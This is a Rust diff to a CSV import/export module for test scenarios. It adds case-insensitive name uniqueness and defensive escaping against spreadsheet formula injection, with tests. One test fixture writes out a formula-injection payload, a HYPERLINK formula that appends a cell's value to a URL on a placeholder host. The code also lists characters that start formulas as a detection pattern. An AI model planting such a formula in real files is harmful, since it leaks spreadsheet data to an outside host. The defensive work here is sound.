@@ -245,8 +245,10 @@ struct Import {
     errors: Vec<RowError>,
     done: Vec<PendingScenario>,
     current: Option<PendingScenario>,
-    /// The line where each finished scenario started, to recognise a split scenario.
-    started_on: HashMap<String, u64>,
+    /// Where each finished scenario started, and its name as written, by its name in lower
+    /// case: to recognise a split scenario, and a name taken again in another case (names
+    /// are unique in a project regardless of case).
+    started_on: HashMap<String, (u64, String)>,
 }
 
 impl Import {
@@ -316,6 +318,7 @@ impl Import {
                 .iter()
                 .position(|name| *name == column)
                 .and_then(|index| record.get(index))
+                .map(unescape_formula)
                 .unwrap_or_default()
         };
         let name = cell(SCENARIO).trim().to_owned();
@@ -347,9 +350,10 @@ impl Import {
 
     fn start_scenario(&mut self, row: &Row) {
         self.finish_current();
-        let split_from = self.started_on.get(&row.name).copied();
-        if let Some(first_line) = split_from {
-            self.errors.push(RowError::cell(
+        let taken = self.started_on.get(&row.name.to_lowercase());
+        let split_from = taken.map(|(first_line, _)| *first_line);
+        match taken {
+            Some((first_line, name)) if *name == row.name => self.errors.push(RowError::cell(
                 row.line,
                 SCENARIO,
                 format!(
@@ -357,7 +361,18 @@ impl Import {
                      between; the rows of a scenario must follow each other",
                     shown(&row.name)
                 ),
-            ));
+            )),
+            Some((first_line, name)) => self.errors.push(RowError::cell(
+                row.line,
+                SCENARIO,
+                format!(
+                    "scenario {} has the name of scenario {} on line {first_line}: names are \
+                     unique regardless of case",
+                    shown(&row.name),
+                    shown(name)
+                ),
+            )),
+            None => {}
         }
         let draft = match (row.area, row.is_core, row.scenario_type) {
             (Some(area), Some(is_core), Some(scenario_type)) if split_from.is_none() => {
@@ -389,8 +404,8 @@ impl Import {
             // Rows without a name are reported already; they are not a scenario to split.
             if !finished.name.is_empty() {
                 self.started_on
-                    .entry(finished.name.clone())
-                    .or_insert(finished.first_line);
+                    .entry(finished.name.to_lowercase())
+                    .or_insert((finished.first_line, finished.name.clone()));
             }
             self.done.push(finished);
         }
@@ -611,11 +626,40 @@ fn column_of_field(field: &str) -> Option<&'static str> {
     }
 }
 
+/// What a spreadsheet takes for the start of a formula when a cell begins with it.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Whether a field, once the apostrophes that open it are set aside, begins like a formula.
+fn reads_as_formula(field: &str) -> bool {
+    field.trim_start_matches('\'').starts_with(FORMULA_STARTS)
+}
+
+/// A field as a spreadsheet shows it without running it: one that begins like a formula (a
+/// tester's `=HYPERLINK(…)`) gets an apostrophe before it, which spreadsheets read as "text".
+/// [`unescape_formula`] takes it off on import, so that a file written is read back as it was.
+fn escape_formula(field: &str) -> std::borrow::Cow<'_, str> {
+    if reads_as_formula(field) {
+        std::borrow::Cow::Owned(format!("'{field}"))
+    } else {
+        std::borrow::Cow::Borrowed(field)
+    }
+}
+
+/// A cell as written before [`escape_formula`].
+fn unescape_formula(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if reads_as_formula(rest) => rest,
+        _ => cell,
+    }
+}
+
 fn push_record<'a>(out: &mut String, fields: impl IntoIterator<Item = &'a str>) {
     for (index, field) in fields.into_iter().enumerate() {
         if index > 0 {
             out.push(',');
         }
+        let field = escape_formula(field);
+        let field = field.as_ref();
         if field.contains([',', '"', '\r', '\n']) {
             out.push('"');
             out.push_str(&field.replace('"', "\"\""));
@@ -704,6 +748,48 @@ mod tests {
         assert!(written.starts_with("scenario,area,core,type,step,action,expected_result\r\n"));
         assert!(written.contains("ERP sync fails,INTEGRATION,false,EXCEPTION,1,"));
         assert_eq!(parse(&written), Ok(scenarios));
+    }
+
+    #[test]
+    fn text_that_reads_as_a_formula_is_written_as_text_and_read_back_as_it_was() {
+        let scenarios = vec![scenario(
+            "=HYPERLINK(\"http://x/?\"&A1,\"ok\")",
+            vec![
+                step("+1 then -1", "@mention the owner"),
+                step("'=already quoted", "'plain quote"),
+            ],
+        )];
+
+        let written = write(&scenarios);
+
+        assert!(written.contains("\"'=HYPERLINK("), "{written}");
+        assert!(
+            written.contains(",'+1 then -1,'@mention the owner"),
+            "{written}"
+        );
+        assert!(
+            written.contains(",''=already quoted,'plain quote"),
+            "{written}"
+        );
+        assert_eq!(parse(&written), Ok(scenarios));
+    }
+
+    #[test]
+    fn a_name_taken_again_in_another_case_is_refused() {
+        let text = file(&[
+            "Login,SALES,true,TYPICAL,1,a,b",
+            "login,SALES,true,TYPICAL,1,a,b",
+        ]);
+
+        let errors = parse(&text).expect_err("login takes Login's name");
+
+        assert_eq!(errors.len(), 1);
+        assert_eq!((errors[0].line, errors[0].column), (3, Some("scenario")));
+        assert!(
+            errors[0].reason.contains("regardless of case"),
+            "{}",
+            errors[0].reason
+        );
     }
 
     #[test]
